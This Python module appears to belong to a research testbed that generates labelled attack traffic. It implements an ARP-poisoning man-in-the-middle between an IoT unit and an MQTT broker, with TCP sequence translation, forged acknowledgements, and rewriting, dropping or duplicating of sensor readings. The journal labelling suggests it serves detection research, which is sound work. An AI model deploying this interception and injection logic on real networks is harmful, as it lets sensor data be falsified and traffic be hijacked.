"""Between one unit and the broker: getting on the path, relaying, editing the stream, leaving."""

from dataclasses import dataclass, field
from typing import Protocol

from coldaisle_contracts.addressing import BROKER, INJECTOR, MQTT_PORT, Host
from coldaisle_contracts.errors import ColdaisleError
from coldaisle_contracts.journal import Journal, frame_digest
from coldaisle_contracts.taxonomy import Role
from coldaisle_contracts.topics import SENSORS
from coldaisle_injector import frames, mqtt
from coldaisle_injector.catalogue import Attack, Passive, Reading
from coldaisle_injector.connection import Connection, Half
from coldaisle_injector.frames import ACK, RST, SYN, Arp, Segment
from coldaisle_injector.wire import Wire

RESEND_NS = 250_000_000
"""A claim nobody answered is repeated after so long, ns of wall time."""
PATIENCE_NS = 15_000_000_000
"""A claim or a copy nobody answers for so long ends the run, ns."""


class OffPathError(ColdaisleError):
    """The attacker is not where the plan needs it."""

    exit_code = 3

    def __init__(self, episode: str, unit: str, what: str) -> None:
        super().__init__(
            f"episode {episode}: the attacker {what} between {unit} and the broker; the run is void"
        )


class Times(Protocol):
    """The two clocks an attacker needs."""

    def now_ns(self) -> int:
        """Return the virtual time, ns."""

    def wall_ns(self) -> int:
        """Return the wall time, ns."""


@dataclass
class Path:
    """The path between a unit and the broker, and what the attacker does on it.

    Attributes:
        unit: the victim.
        wire: the attacker's socket.
        times: its clocks.
        journal: where every frame and act goes.
        slot_of: the plan's slot at a virtual time.
        episode: the episode that holds the path, also after its end while connections need translation.
        attack: what is being played; ``None`` before the first approach.
        acting: whether the act phase is on.
        confirmed: whether traffic was seen to pass in both directions since the last approach.
        taken: whether the caches of unit and broker are poisoned.
    """

    unit: Host
    wire: Wire
    times: Times
    journal: Journal
    slot_of: "SlotOf"
    episode: str = ""
    attack: Attack | None = None
    acting: bool = False
    confirmed: bool = False
    taken: bool = False
    leaving: bool = False
    _up: bool = False
    _down: bool = False
    _unanswered: set[str] = field(default_factory=set)
    _claimed_ns: int = 0
    _since_ns: int = 0
    _connections: dict[int, Connection] = field(default_factory=dict)

    # -- phases -------------------------------------------------------------------------------------------------

    def approach(self, episode: str, attack: Attack) -> None:
        """Claim the unit's place at the broker and the broker's at the unit."""
        self.episode, self.attack = episode, attack
        self.acting = self.confirmed = self.leaving = self._up = self._down = False
        if not self.taken:
            self._connections.clear()  # kept until now for stragglers
        self.taken = True
        self._phase("approach")
        self._claim()

    def begin(self) -> None:
        """Start to act.

        Raises:
            OffPathError: if no traffic passed in both directions since the approach.
        """
        if not self.confirmed:
            raise OffPathError(self.episode, self.unit.name, "saw no traffic pass")
        self.acting = True
        self._phase("begin")

    def leave(self) -> None:
        """Stop acting; restore the caches as soon as no connection needs the attacker any more."""
        self.acting, self.leaving = False, True
        self._phase("end")
        self.restore_if_free()

    def restore_if_free(self) -> None:
        """Restore both caches unless a connection would break."""
        if not (self.taken and self.leaving) or any(conn.translated for conn in self._connections.values()):
            return
        self.taken = self.leaving = False
        for victim, owner in ((self.unit, BROKER), (BROKER, self.unit)):
            frame = frames.arp_restore(INJECTOR.mac, (victim.ip, victim.mac), (owner.ip, owner.mac))
            self._send(frame, victim, Role.INJECTED, "restore", attack=True)
        self._phase("off_path")

    @property
    def settled(self) -> bool:
        """Whether everything sent has been answered."""
        return not self._unanswered and not any(conn.copies for conn in self._connections.values())

    def insist(self) -> None:
        """Repeat claims nobody answered.

        Raises:
            OffPathError: if there is still no answer after :data:`PATIENCE_NS`.
        """
        if self.settled:
            return
        now = self.times.wall_ns()
        if now - self._since_ns > PATIENCE_NS:
            raise OffPathError(self.episode, self.unit.name, "got no answer")
        if self._unanswered and now - self._claimed_ns > RESEND_NS:
            self._claim(again=True)

    def copy(self, slot: int, sensor: int) -> None:
        """Deliver a reading again, as the next bytes of its connection.

        Raises:
            OffPathError: if that reading did not pass.
        """
        for port, conn in self._connections.items():  # noqa: B007 - read after the loop
            if conn.sensor == sensor and conn.publish[0] == slot and conn.up.last and conn.down.last:
                break
        else:
            raise OffPathError(
                self.episode, self.unit.name, f"has no reading of sensor {sensor}, slot {slot} to copy"
            )
        up, down, wall = conn.up, conn.down, self.times.wall_ns()
        _, data, mid = conn.publish
        numbers = (up.stream.outward(up.next), down.next)
        assert up.last is not None and down.last is not None  # noqa: S101, PT018 - the loop above chose so
        frame = frames.forge(up.last, self._macs(BROKER), numbers, (up.tsval(wall), down.last.tsval), data)
        up.stream.edit(up.next, 0, len(data))
        conn.copies.append(mid)
        self._since_ns = wall
        value = next(mqtt.messages(data)).value.decode()
        self._send(frame, BROKER, Role.DUPLICATE, "copy", attack=True)
        self._act(port, slot, sensor, mid, "copy", value, value, copy=True)

    # -- ARP ----------------------------------------------------------------------------------------------------

    def _claim(self, *, again: bool = False) -> None:
        self._claimed_ns = self.times.wall_ns()
        if not again:
            self._since_ns = self._claimed_ns
            self._unanswered = {self.unit.ip, BROKER.ip}
        for victim, claimed in ((self.unit, BROKER), (BROKER, self.unit)):
            if victim.ip in self._unanswered:
                frame = frames.arp_claim(INJECTOR.mac, (victim.ip, victim.mac), claimed.ip)
                self._send(frame, victim, Role.INJECTED, "poison", attack=True)

    def on_arp(self, arp: Arp, frame: bytes) -> None:
        """Take an answer to a claim, or answer a question about the other side."""
        victim, other = (self.unit, BROKER) if arp.sender_ip == self.unit.ip else (BROKER, self.unit)
        if not self.taken or (arp.sender_ip, arp.target_ip) != (victim.ip, other.ip):
            return
        to_us = frame[:6] == bytes.fromhex(INJECTOR.mac.replace(":", ""))
        if to_us:
            self._note(frame, victim, Role.CONSEQUENCE, "reply", attack=True)
        if arp.operation == 2:  # noqa: PLR2004 - is-at
            self._unanswered.discard(victim.ip)
        elif to_us:
            answer = frames.arp_answer(INJECTOR.mac, (victim.ip, victim.mac), other.ip)
            self._send(answer, victim, Role.INJECTED, "poison", attack=True)
        else:
            self._claim()

    # -- TCP ----------------------------------------------------------------------------------------------------

    def on_segment(self, segment: Segment) -> None:
        """Pass a segment on, edited where the attack says so."""
        upward = segment.source == self.unit.ip
        port = segment.sport if upward else segment.dport
        if segment.flags & SYN and upward and not segment.flags & ACK:
            self._connections[port] = Connection()
        conn = self._connections.setdefault(port, Connection())
        half, other = (conn.up, conn.down) if upward else (conn.down, conn.up)
        fresh = half.see(segment, self.times.wall_ns())
        conn.closed = conn.closed or bool(segment.flags & RST)
        if not upward:  # the capture saw it before the attacker did
            self._note(segment.frame, BROKER, *self._role_of(segment, conn))
        if fresh and segment.payload and not (self.leaving and self.settled):
            half.rewritten[segment.seq] = self._edit(port, conn, segment, upward=upward)
            if len(half.rewritten) > 16:  # noqa: PLR2004 - more than TCP keeps in flight here
                half.rewritten.pop(next(iter(half.rewritten)))
        payload = half.rewritten.get(segment.seq, segment.payload) if segment.payload else b""
        self._pass_on(segment, half, other, payload, upward=upward)
        self.restore_if_free()

    def on_other(self, frame: bytes, *, upward: bool) -> None:
        """Pass on what is not MQTT, such as NTP, unaltered."""
        target = BROKER if upward else self.unit
        passed = frames.relayed(frame, self._macs(target))
        self._note(passed, BROKER, Role.RELAYED, "relay", self._reading_is_the_attack)
        self.wire.send(passed)

    def _pass_on(self, segment: Segment, half: Half, other: Half, payload: bytes, *, upward: bool) -> None:
        """Send the segment on in the other side's numbers, unless nothing of it is left."""
        target = BROKER if upward else self.unit
        seq = half.stream.outward(segment.seq)
        ack = other.stream.inward(segment.ack) if segment.flags & ACK else segment.ack
        swallowed = bool(segment.payload) and not payload
        # An acknowledgement of what the other side never sent says nothing to it.
        pure = not segment.payload and segment.flags == ACK
        hollow = pure and ack == half.acked[1] and segment.ack != half.acked[0]
        half.acked = (segment.ack, ack)
        if swallowed or hollow:
            if upward:
                role = Role.REMOVED if swallowed else Role.CONSEQUENCE
                self._note(segment.frame, self.unit, role, "swallow", attack=True)
            return
        changed = payload != segment.payload
        if changed:
            frame = frames.rewrite(segment, self._macs(target), seq, ack, payload)
        elif (seq, ack) != (segment.seq, segment.ack) or not frames.is_sound(segment):
            frame = frames.translate(segment, self._macs(target), seq, ack)
        else:
            frame = frames.readdress(segment.frame, *self._macs(target))
        self.wire.send(frame)
        if upward and changed:
            self._note(frame, BROKER, Role.MODIFIED, "alter", attack=True)
        elif upward:
            self._note(frame, BROKER, Role.RELAYED, "relay", attack=self._reading_is_the_attack)

    def _edit(self, port: int, conn: Connection, segment: Segment, *, upward: bool) -> bytes:
        """Return the payload to pass on instead of a new segment's, and note how the stream changes by it."""
        out, at = b"", segment.seq
        half = conn.up if upward else conn.down
        for message in mqtt.messages(segment.payload):
            if upward and message.type == mqtt.PUBLISH:
                data = self._publish(port, conn, segment, message)
            elif not upward and message.type == mqtt.PUBACK and message.mid in conn.copies:
                conn.copies.remove(message.mid)
                self._acknowledge(conn, segment)
                data = b""
            else:
                data = message.data
            self._up, self._down = self._up or upward, self._down or not upward
            half.stream.edit(at, len(message.data), len(data))
            at = (at + len(message.data)) & 0xFFFFFFFF
            out += data
        if self._up and self._down and not self.confirmed and self.taken and not self.leaving:
            self.confirmed = True
            self._phase("on_path")
        return out

    def _publish(self, port: int, conn: Connection, segment: Segment, message: mqtt.Message) -> bytes:
        """Return what becomes of a reading: its own bytes, others, or none."""
        reading = self._reading(conn, message)
        attack = self.attack or Passive.__new__(Passive)
        value: str | None = reading.value
        if self.acting:
            value = attack.on_publish(reading)
        elif self.attack:
            attack.watch(reading)
        if value is None:
            self._act(port, reading.slot, reading.sensor, message.mid, "swallow", reading.value, None)
            self._answer_for_broker(conn, segment, message.mid)
            return b""
        data = message.data
        if value != reading.value:
            data = mqtt.with_value(message, value.encode())
            self._act(port, reading.slot, reading.sensor, message.mid, "modify", reading.value, value)
        conn.publish = (reading.slot, data, message.mid)
        return data

    def _reading(self, conn: Connection, message: mqtt.Message) -> Reading:
        """Tell which reading a PUBLISH carries: a unit reports its sensors in order, so the first seen is sensor 1."""
        slot = self.slot_of(self.times.now_ns())
        if not conn.sensor:
            known = {each.sensor for each in self._connections.values() if not each.over}
            conn.sensor = min({*SENSORS} - known, default=len(SENSORS))
        return Reading(slot, conn.sensor, message.value.decode("ascii", "replace"))

    def _answer_for_broker(self, conn: Connection, segment: Segment, mid: int) -> None:
        """Acknowledge a swallowed reading in the broker's place."""
        down, wall = conn.down, self.times.wall_ns()
        if down.last is None:
            raise OffPathError(self.episode, self.unit.name, "never heard the broker")
        data = mqtt.puback(mid)
        numbers = (down.stream.outward(down.next), (segment.seq + len(segment.payload)) & 0xFFFFFFFF)
        frame = frames.forge(
            down.last, self._macs(self.unit), numbers, (down.tsval(wall), segment.tsval), data
        )
        down.stream.edit(down.next, 0, len(data))
        self._send(frame, self.unit, Role.INJECTED, "acknowledge", attack=True)

    def _acknowledge(self, conn: Connection, segment: Segment) -> None:
        """Acknowledge the broker's PUBACK of a copy in the unit's place."""
        up, wall = conn.up, self.times.wall_ns()
        assert up.last is not None  # noqa: S101 - a copy was sent in its shape
        numbers = (up.stream.outward(up.next), (segment.seq + len(segment.payload)) & 0xFFFFFFFF)
        frame = frames.forge(up.last, self._macs(BROKER), numbers, (up.tsval(wall), segment.tsval), b"")
        self._send(frame, BROKER, Role.INJECTED, "acknowledge", attack=True)

    # -- journal ------------------------------------------------------------------------------------------------

    @property
    def _reading_is_the_attack(self) -> bool:
        return self.acting and self.attack is not None and self.attack.labels_relayed

    def _role_of(self, segment: Segment, conn: Connection) -> tuple[Role, str, bool]:
        for message in mqtt.messages(segment.payload) if conn.copies else ():
            if message.type == mqtt.PUBACK and message.mid in conn.copies:
                return Role.CONSEQUENCE, "reply", True
        return Role.RELAYED, "relay", self._reading_is_the_attack

    def _macs(self, target: Host) -> tuple[str, str]:
        return INJECTOR.mac, target.mac

    def _send(self, frame: bytes, target: Host, role: Role, act: str, *, attack: bool) -> None:
        self.wire.send(frame)
        self._note(frame, target, role, act, attack)

    def _note(self, frame: bytes, side: Host, role: Role, act: str, attack: bool) -> None:
        self.journal.write(
            "frame",
            episode=self.episode,
            digest=frame_digest(frame),
            role=str(role),
            attack=attack,
            side="broker" if side is BROKER else "unit",
            act=act,
            at_ns=self.times.now_ns(),
        )

    def _act(
        self,
        port: int,
        slot: int,
        sensor: int,
        mid: int,
        operation: str,
        before: str,
        after: str | None,
        *,
        copy: bool = False,
    ) -> None:
        self.journal.write(
            "act",
            episode=self.episode,
            unit=self.unit.name,
            slot=slot,
            sensor=sensor,
            operation=operation,
            before=before,
            after=after,
            port=port,
            mid=mid,
            copy=int(copy),
            at_ns=self.times.now_ns(),
        )

    def _phase(self, phase: str) -> None:
        self.journal.write("episode", episode=self.episode, phase=phase, at_ns=self.times.now_ns())


class SlotOf(Protocol):
    """Maps a virtual time, ns, to the plan's slot."""

    def __call__(self, at_ns: int) -> int:
        """Return the slot whose readings are due then."""


def is_between(segment: Segment, unit: Host) -> bool:
    """Tell whether a segment belongs to MQTT between a unit and the broker."""
    up = (segment.source, segment.target, segment.dport) == (unit.ip, BROKER.ip, MQTT_PORT)
    return up or (segment.source, segment.target, segment.sport) == (BROKER.ip, unit.ip, MQTT_PORT)
